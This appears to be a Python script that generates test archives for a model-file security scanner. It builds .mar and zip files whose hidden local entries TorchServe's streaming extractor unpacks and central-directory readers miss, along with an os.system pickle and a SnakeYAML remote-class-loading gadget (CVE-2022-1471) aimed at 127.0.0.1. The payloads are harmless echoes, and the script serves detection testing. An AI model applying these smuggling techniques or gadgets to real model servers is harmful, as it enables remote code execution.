#!/usr/bin/python3
"""Writes samples/zip-stream-hidden/: zips whose central directory hides entries that streaming
readers extract. Java's java.util.zip.ZipInputStream (TorchServe's ZipUtils.unzip extracts every
.mar with it) never reads the central directory: it follows local headers from offset 0, inflates a
deflated member to the end of its deflate stream, skips its data descriptor (flag bit 3) and reads
the next local header right there. Python's zipfile and PyTorch read the central directory only.

- resnet-hidden.mar: the directory lists only MAR-INF/MANIFEST.json (built-in handler
  image_classifier), deflated with flag bit 3; after its deflate stream and descriptor, inside its
  declared compressed size, sits a whole local entry image_classifier.py, which TorchServe extracts
  into the model directory where it shadows ts.torch_handler.image_classifier.
- gap-shadow.mar: a local entry platform.py in the gap between two listed members (shadows the
  standard library module for the worker).
- hidden-manifest.mar: a second MAR-INF/MANIFEST.json (handler evil_handler) and evil_handler.py
  after the listed manifest's deflate stream: extracted later, it replaces the listed manifest.
- hidden-pickle.zip: a plain zip whose a.txt hides a pickle (os.system) after its deflate stream.
- stored-short.zip: a stored member whose local header gives fewer bytes than the central
  directory; the streaming reader reads a hidden pickle after them.
- gadget.mar: model-config.yaml with the SnakeYAML ScriptEngineManager/URLClassLoader gadget
  (TorchServe's frontend reads it with SnakeYAML; CVE-2022-1471). The URL is 127.0.0.1.
- benign-zipfile.mar: the same kind of archive written by Python's zipfile (must stay clean).
- benign-jar.mar (when the JDK's `jar` is installed): written by `jar cfM`, whose entries are
  deflated with flag bit 3 and data descriptors, as a streaming writer makes them (must stay clean).

Proof: every archive is walked with a re-implementation of ZipInputStream's reading below, and,
when `java` is installed, extracted with java.util.zip.ZipInputStream itself (the same loop as
ZipUtils.unzip); the generator fails if the hidden entries are not extracted. Payloads are
harmless (`echo modelgate-bypass-sample`); nothing is executed. Run from the repository root with
/usr/bin/python3.
"""
import json
import os
import shutil
import struct
import subprocess
import tempfile
import zipfile
import zlib

OUT = os.path.join("samples", "zip-stream-hidden")
expected = {}

PAYLOAD = b"import os\nos.system('echo modelgate-bypass-sample')\n"
# protocol 2 pickle: posix.system('echo modelgate-bypass-sample')
PICKLE = b"\x80\x02cposix\nsystem\nq\x00X\x1b\x00\x00\x00echo modelgate-bypass-sampleq\x01\x85q\x02Rq\x03."
GADGET = (
    b"minWorkers: 1\nmaxWorkers: 1\nbatchSize: 1\n"
    b"handler: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
    b"[[!!java.net.URL [\"http://127.0.0.1:8000/modelgate-bypass-sample.jar\"]]]]\n"
)
CONFIG = b"minWorkers: 1\nmaxWorkers: 1\nbatchSize: 1\nresponseTimeout: 120\n"


def manifest(handler, config=None):
    model = {"modelName": "resnet", "handler": handler, "modelVersion": "1.0"}
    if config is not None:
        model["configFile"] = config
    return json.dumps({"createdOn": "07/12/2026 10:00:00", "runtime": "python", "model": model,
                       "archiverVersion": "0.9.0"}).encode()


def local(name, flag, method, crc, csize, size):
    n = name.encode()
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flag, method, 0, 0, crc, csize, size, len(n), 0) + n


def central(name, flag, method, crc, csize, size, offset):
    n = name.encode()
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flag, method, 0, 0, crc, csize, size,
                       len(n), 0, 0, 0, 0, 0, offset) + n


def eocd(cd, count, offset):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(cd), offset, 0)


def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def stored(name, data):
    return local(name, 0, 0, zlib.crc32(data), len(data), len(data)) + data


def descriptor(data, comp):
    return struct.pack("<IIII", 0x08074B50, zlib.crc32(data), len(comp), len(data))


def hidden_after_stream(name, data, hidden):
    """One listed member, deflated with flag bit 3; `hidden` after its stream and descriptor."""
    comp = deflate(data)
    member = comp + descriptor(data, comp) + hidden
    body = local(name, 8, 8, 0, 0, 0) + member
    cd = central(name, 8, 8, zlib.crc32(data), len(member), len(data), 0)
    return body + cd + eocd(cd, 1, len(body))


def java_like_walk(blob):
    """The entries java.util.zip.ZipInputStream extracts (names, in order), as OpenJDK 17 reads."""
    names, at = [], 0
    while at + 30 <= len(blob):
        sig, _, flag, method, _, _, _, csize, _, nlen, xlen = struct.unpack_from("<IHHHHHIIIHH", blob, at)
        if sig != 0x04034B50:
            break
        name = blob[at + 30:at + 30 + nlen].decode()
        data = at + 30 + nlen + xlen
        if method == 0:
            if flag & 8:
                break  # "only DEFLATED entries can have EXT descriptor"
            end = data + csize
        elif method == 8:
            d = zlib.decompressobj(-15)
            d.decompress(blob[data:])
            end = len(blob) - len(d.unused_data)
            if not flag & 8 and end - data != csize:
                break  # "invalid entry compressed size"
            if flag & 8:
                end += 16 if blob[end:end + 4] == b"PK\x07\x08" else 12
        else:
            break  # "invalid compression method"
        names.append(name)
        at = end
    return names


UNZIP_JAVA = """
import java.io.*; import java.nio.file.*; import java.util.zip.*;
public class StreamUnzip { // the loop of TorchServe's ZipUtils.unzip(InputStream, File)
  public static void main(String[] a) throws Exception {
    try (ZipInputStream in = new ZipInputStream(new FileInputStream(a[0]))) {
      for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
        File f = new File(a[1], e.getName());
        if (e.isDirectory()) { f.mkdirs(); continue; }
        f.getParentFile().mkdirs();
        try (OutputStream o = Files.newOutputStream(f.toPath())) { in.transferTo(o); }
        System.out.println(e.getName());
      }
    }
  }
}
"""


def java_extract(path):
    """Names java.util.zip.ZipInputStream extracts, or None without java."""
    if shutil.which("java") is None:
        return None
    with tempfile.TemporaryDirectory() as tmp:
        src = os.path.join(tmp, "StreamUnzip.java")
        with open(src, "w") as f:
            f.write(UNZIP_JAVA)
        out = subprocess.run(["java", src, path, os.path.join(tmp, "model_dir")], capture_output=True, text=True,
                             check=True, timeout=120)
        return out.stdout.split()


def write(case, blob, verdict, rules=(), absent=(), hidden=()):
    path = os.path.join(OUT, case)
    with open(path, "wb") as f:
        f.write(blob)
    listed = zipfile.ZipFile(path).namelist()
    walked = java_like_walk(blob)
    java = java_extract(path)
    for name in hidden:
        assert name in walked and (java is None or name in java), (case, name, walked, java)
    print(f"{case}: zipfile lists {listed}; ZipInputStream walk {walked}; java {java}")
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    expected[f"zip-stream-hidden/{case}"] = entry


if os.path.isdir(OUT):
    shutil.rmtree(OUT)
os.makedirs(OUT)

write("resnet-hidden.mar",
      hidden_after_stream("MAR-INF/MANIFEST.json", manifest("image_classifier"), stored("image_classifier.py", PAYLOAD)),
      "malicious", ["torchserve/custom-handler", "zip/data-after-stream", "zip/local-only-entry"],
      ["torchserve/builtin-handler"], ["image_classifier.py"])

m = manifest("image_classifier")
first, gap, weights = stored("MAR-INF/MANIFEST.json", m), stored("platform.py", PAYLOAD), b"\x00" * 64
body = first + gap + stored("model.bin", weights)
cd = central("MAR-INF/MANIFEST.json", 0, 0, zlib.crc32(m), len(m), len(m), 0) + \
    central("model.bin", 0, 0, zlib.crc32(weights), len(weights), len(weights), len(first) + len(gap))
write("gap-shadow.mar", body + cd + eocd(cd, 2, len(body)), "malicious",
      ["torchserve/shadowed-module", "zip/local-only-entry"], (), ["platform.py"])

write("hidden-manifest.mar",
      hidden_after_stream("MAR-INF/MANIFEST.json", manifest("image_classifier"),
                          stored("MAR-INF/MANIFEST.json", manifest("evil_handler")) + stored("evil_handler.py", PAYLOAD)),
      "malicious", ["torchserve/custom-handler", "zip/data-after-stream"], (), ["evil_handler.py"])

text = b"model card\n" * 8
write("hidden-pickle.zip", hidden_after_stream("a.txt", text, stored("payload.pkl", PICKLE)), "malicious",
      ["zip/data-after-stream", "zip/local-only-entry", "pickle/dangerous-global"], (), ["payload.pkl"])

member = text + stored("payload.pkl", PICKLE)
body = local("a.txt", 0, 0, zlib.crc32(text), len(text), len(text)) + member
cd = central("a.txt", 0, 0, zlib.crc32(member), len(member), len(member), 0)
write("stored-short.zip", body + cd + eocd(cd, 1, len(body)), "malicious",
      ["zip/data-after-stream", "zip/local-only-entry", "pickle/dangerous-global"], (), ["payload.pkl"])


def zipfile_mar(config):
    path = os.path.join(tempfile.mkdtemp(), "x.mar")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("MAR-INF/MANIFEST.json", manifest("image_classifier", "model-config.yaml"))
        z.writestr("model-config.yaml", config)
        z.writestr("index_to_name.json", json.dumps({"0": "cat", "1": "dog"}))
    with open(path, "rb") as f:
        blob = f.read()
    shutil.rmtree(os.path.dirname(path))
    return blob


write("gadget.mar", zipfile_mar(GADGET), "malicious", ["torchserve/java-yaml-tag"])
write("benign-zipfile.mar", zipfile_mar(CONFIG), "clean", ["torchserve/builtin-handler"],
      ["zip/data-after-stream", "zip/local-only-entry", "torchserve/java-yaml-tag"])

if shutil.which("jar") is not None:
    with tempfile.TemporaryDirectory() as tmp:
        os.makedirs(os.path.join(tmp, "MAR-INF"))
        with open(os.path.join(tmp, "MAR-INF", "MANIFEST.json"), "wb") as f:
            f.write(manifest("image_classifier", "model-config.yaml"))
        with open(os.path.join(tmp, "model-config.yaml"), "wb") as f:
            f.write(CONFIG)
        with open(os.path.join(tmp, "index_to_name.json"), "w") as f:
            f.write(json.dumps({str(i): f"class-{i}" for i in range(100)}))
        jar = os.path.join(tmp, "x.mar")
        subprocess.run(["jar", "cfM", jar, "-C", tmp, "MAR-INF", "-C", tmp, "model-config.yaml", "-C", tmp,
                        "index_to_name.json"], check=True, timeout=120)
        with open(jar, "rb") as f:
            blob = f.read()
    write("benign-jar.mar", blob, "clean", ["torchserve/builtin-handler"],
          ["zip/data-after-stream", "zip/local-only-entry", "zip/header-mismatch"])

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1)
    f.write("\n")
